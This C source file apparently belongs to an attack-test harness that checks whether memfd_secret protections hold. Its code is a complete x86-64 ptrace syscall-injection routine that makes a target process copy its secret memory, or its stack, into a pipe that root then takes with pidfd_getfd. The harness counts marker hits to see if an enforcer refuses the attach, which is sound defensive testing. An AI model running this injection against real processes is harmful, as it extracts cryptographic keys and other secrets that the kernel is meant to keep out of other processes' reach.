/* ct-attack's syscall injection: root attaches with ptrace and makes the
 * target itself copy its memfd_secret mappings into a pipe. memfd_secret
 * keeps the pages out of every other process's reach (/proc/PID/mem,
 * process_vm_readv and PEEKDATA all go through the kernel's page pinning,
 * which secretmem refuses), but the owner reads its own pages through its
 * own page tables, and a process under ptrace runs the syscalls its tracer
 * chooses. Only a refused attach (the enforcer; Yama's ptrace_scope 3)
 * stops this; non-dumpable does not stop root.
 *
 * Steps (x86-64): PTRACE_SEIZE + PTRACE_INTERRUPT; find a `syscall`
 * instruction (the one the target is stopped behind, else one in an
 * executable mapping); run pipe2(scratch on the target's stack) and, for
 * each secretmem mapping (none: the stack), write(pipe, mapping) a pipe's
 * worth at a time;
 * take the pipe's read end with pidfd_getfd and count the markers; run
 * close() on both ends; restore the registers and detach. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

#if defined(__x86_64__)

#define PIPE_CAP (64u << 10) /* a pipe's default capacity: write never blocks */

/* Runs one syscall in the stopped target at the `syscall` instruction at
 * insn: its return value, or -errno of ptrace itself (as -(1000 + errno),
 * so that it cannot be mistaken for the target's -errno). */
static long remote_syscall(const struct user_regs_struct *saved, unsigned long insn,
			   long nr, long a1, long a2, long a3)
{
	struct user_regs_struct r = *saved;
	int status;

	r.rip = insn;
	r.rax = (unsigned long)nr;
	r.orig_rax = (unsigned long)-1; /* no restart of the interrupted call */
	r.rdi = (unsigned long)a1;
	r.rsi = (unsigned long)a2;
	r.rdx = (unsigned long)a3;
	if (ptrace(PTRACE_SETREGS, attack.pid, 0, &r) < 0)
		return -(1000 + errno);
	if (ptrace(PTRACE_SINGLESTEP, attack.pid, 0, 0) < 0)
		return -(1000 + errno);
	if (waitpid(attack.pid, &status, __WALL) < 0)
		return -(1000 + errno);
	if (!WIFSTOPPED(status))
		return -(1000 + ESRCH);
	if (ptrace(PTRACE_GETREGS, attack.pid, 0, &r) < 0)
		return -(1000 + errno);
	return (long)r.rax;
}

static int is_syscall_insn(unsigned long addr)
{
	long w;

	errno = 0;
	w = ptrace(PTRACE_PEEKTEXT, attack.pid, addr, 0);
	return errno == 0 && (w & 0xffff) == 0x050f;
}

/* The `syscall` instruction the target stopped behind, else the first one
 * in an executable mapping (peeked word by word: bounded). */
static unsigned long find_syscall_insn(const struct user_regs_struct *r,
				       struct mapping *maps, int n)
{
	if (r->rip >= 2 && is_syscall_insn(r->rip - 2))
		return r->rip - 2;
	for (int i = 0; i < n; i++) {
		if (maps[i].perms[2] != 'x' || strcmp(maps[i].name, "[vsyscall]") == 0)
			continue;
		unsigned long end = maps[i].end - maps[i].start > (4u << 20) ?
					    maps[i].start + (4u << 20) : maps[i].end;

		for (unsigned long a = maps[i].start; a + 8 <= end;
		     a += 7) {
			long w;

			errno = 0;
			w = ptrace(PTRACE_PEEKTEXT, attack.pid, a, 0);
			if (errno)
				break;
			for (int b = 0; b < 7; b++)
				if (((unsigned long)w >> (8 * b) & 0xffff) == 0x050f)
					return a + (unsigned long)b;
		}
	}
	return 0;
}

/* write(wfd, [start, start + len)) in the target, a pipe's worth at a
 * time (at most 1 MiB), each drained from the stolen read end and counted. */
static void drain(const struct user_regs_struct *saved, unsigned long insn, int wfd,
		  int rfd, unsigned long start, unsigned long len, const char *what)
{
	static unsigned char buf[PIPE_CAP];
	struct scanner sc = { 0 };
	unsigned long done = 0;
	int err = 0;

	if (len > (1u << 20))
		len = 1u << 20;
	step("injected write(pipe, %s)", what);
	while (done < len) {
		unsigned long want = len - done < PIPE_CAP ? len - done : PIPE_CAP;
		long w = remote_syscall(saved, insn, SYS_write, wfd, (long)(start + done),
					(long)want);
		ssize_t got;

		if (w <= 0) {
			err = w <= -1000 ? (int)(-w - 1000) : w < 0 ? (int)-w : EIO;
			break;
		}
		got = read(rfd, buf, sizeof(buf));
		if (got <= 0) {
			err = got < 0 ? errno : EIO;
			break;
		}
		feed(&sc, buf, (size_t)got);
		explicit_bzero(buf, (size_t)got);
		done += (unsigned long)got;
	}
	took(done, sc.hits);
	if (err)
		item("\"what\":\"%s\",\"bytes\":%lu,\"hits\":%ld,\"err\":\"%s\"", what, done,
		     sc.hits, ename(err));
	else
		item("\"what\":\"%s\",\"bytes\":%lu,\"hits\":%ld", what, done, sc.hits);
}

static void inject(const struct user_regs_struct *saved, struct mapping *maps, int n)
{
	unsigned long insn = find_syscall_insn(saved, maps, n);
	unsigned long scratch = (saved->rsp - 4096) & ~15ul; /* below the red zone */
	int fds[2], pidfd, rfd, regions = 0;
	long r, w;

	if (!insn)
		return item_err("find a syscall instruction", ENOENT);
	step("injected pipe2");
	r = remote_syscall(saved, insn, SYS_pipe2, (long)scratch, O_CLOEXEC, 0);
	if (r < 0)
		return item_err("injected pipe2", r <= -1000 ? (int)(-r - 1000) : (int)-r);
	errno = 0;
	w = ptrace(PTRACE_PEEKDATA, attack.pid, scratch, 0);
	if (errno)
		return item_err("read the pipe's fds", errno);
	memcpy(fds, &w, sizeof(fds));
	step("pidfd_getfd the pipe");
	pidfd = (int)syscall(SYS_pidfd_open, attack.pid, 0);
	rfd = pidfd < 0 ? -1 : (int)syscall(SYS_pidfd_getfd, pidfd, fds[0], 0);
	if (rfd < 0) {
		item_err("pidfd_getfd the pipe", errno);
	} else {
		fcntl(rfd, F_SETFL, O_NONBLOCK);
		for (int i = 0; i < n; i++) {
			if (!strstr(maps[i].name, "secretmem") || maps[i].perms[0] != 'r')
				continue;
			drain(saved, insn, fds[1], rfd, maps[i].start, maps[i].end - maps[i].start,
			      maps[i].name);
			regions++;
		}
		/* No region (env delivery): the stack, where the environment is. */
		for (int i = 0; i < n && !regions; i++)
			if (strcmp(maps[i].name, "[stack]") == 0 && ++regions)
				drain(saved, insn, fds[1], rfd, maps[i].start,
				      maps[i].end - maps[i].start, maps[i].name);
		/* No maps: the page at ADDR. */
		if (!regions && attack.addr)
			drain(saved, insn, fds[1], rfd, attack.addr & ~4095ul, 4096, "page at ADDR");
		close(rfd);
	}
	if (pidfd >= 0)
		close(pidfd);
	remote_syscall(saved, insn, SYS_close, fds[0], 0, 0);
	remote_syscall(saved, insn, SYS_close, fds[1], 0, 0);
}

/* The attach comes first: an enforcer must stop it there, not at the
 * /proc/PID/maps read that follows (an attacker who knows the region's
 * address, ADDR, needs no maps). */
int v_ptrace_inject(void)
{
	struct user_regs_struct saved;
	struct mapping *maps = NULL;
	int status, n;

	step("PTRACE_SEIZE");
	if (ptrace(PTRACE_SEIZE, attack.pid, 0, 0) < 0) {
		refused("PTRACE_SEIZE", errno);
		return finish();
	}
	step("PTRACE_INTERRUPT");
	if (ptrace(PTRACE_INTERRUPT, attack.pid, 0, 0) < 0 ||
	    waitpid(attack.pid, &status, __WALL) < 0) {
		refused("PTRACE_INTERRUPT", errno);
	} else if (ptrace(PTRACE_GETREGS, attack.pid, 0, &saved) < 0) {
		refused("PTRACE_GETREGS", errno);
	} else {
		n = read_maps(&maps);
		if (n < 0) {
			item_err("open maps", -n);
			n = 0;
		}
		inject(&saved, maps, n);
		ptrace(PTRACE_SETREGS, attack.pid, 0, &saved);
	}
	ptrace(PTRACE_DETACH, attack.pid, 0, 0);
	free(maps);
	return finish();
}

#else

int v_ptrace_inject(void)
{
	item_err("syscall injection (x86-64 only)", ENOSYS);
	return finish();
}

#endif
